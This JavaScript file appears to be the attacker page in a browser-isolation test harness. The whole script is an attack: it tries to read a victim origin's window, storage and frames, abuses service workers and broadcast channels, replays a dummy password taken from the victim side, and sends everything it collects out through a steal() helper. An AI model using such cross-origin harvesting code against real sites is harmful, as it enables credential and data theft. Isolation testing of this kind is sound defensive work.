// Holds on to what outlives a page, and works together with the page of another system that was broken into.
holdForm();
const victim = location.origin.replace("hold", "victim");
const got = [String(window.opener)];
const shared = new SharedWorker("/worker/shared.js");
const fromWorker = (path, options) => new Promise((done) => {
  shared.port.onmessage = (event) => done(event.data);
  shared.port.postMessage({ path, options });
  setTimeout(() => done("nothing"), 3000);
});
const channel = new BroadcastChannel("county");
channel.onmessage = (event) => got.push(event.data);
addEventListener("message", (event) => got.push(JSON.stringify(event.data)));
addEventListener("load", async () => {
  const dummy = await dummyOf();
  const form = { "content-type": "application/x-www-form-urlencoded" };
  got.push(await fromWorker("/store/refused/shared", { method: "POST", body: `username=${user}&password=${dummy}`, headers: form }));
  for (const [script, scope] of [["/worker/service.js", "/worker/"], ["/worker/service.js?x", "/worker/"], [`data:text/javascript,`, "/"]]) {
    got.push(await attempt(() => navigator.serviceWorker.register(script, { scope })));
  }
  const workers = (await navigator.serviceWorker.getRegistrations()).length;
  channel.postMessage(dummy);
  const view = open(`${victim}/victim/login`, "victim");
  const theirs = await Promise.race([pause(8000), until(() => got.map((one) => String(one)).find((one) => one.includes("theirs")))]);
  for (const look of [() => view.document.body.outerHTML, () => view.location.href, () => view.name, () => view.localStorage.x, () => view.frames[0].document]) {
    got.push(await attempt(look));
  }
  if (theirs) {
    const { theirs: dummyOfVictim } = JSON.parse(theirs);
    await natural.fetch.call(window, "/store/passed/theirs", { method: "POST", headers: form, body: `username=${user}&password=${dummyOfVictim}` });
    await signIn(dummyOfVictim);
  }
  await signIn(dummy);
  got.push(await fromWorker("/shown/text"), await fromWorker("/shown/json"));
  const again = open(`${victim}/shown/text`, "victim");
  await pause(1000);
  got.push(await attempt(() => again.document.body.outerHTML));
  again.close();
  await steal("held", JSON.stringify({ workers, got: got.map(String), met: Boolean(theirs) }));
  document.title = "done";
});
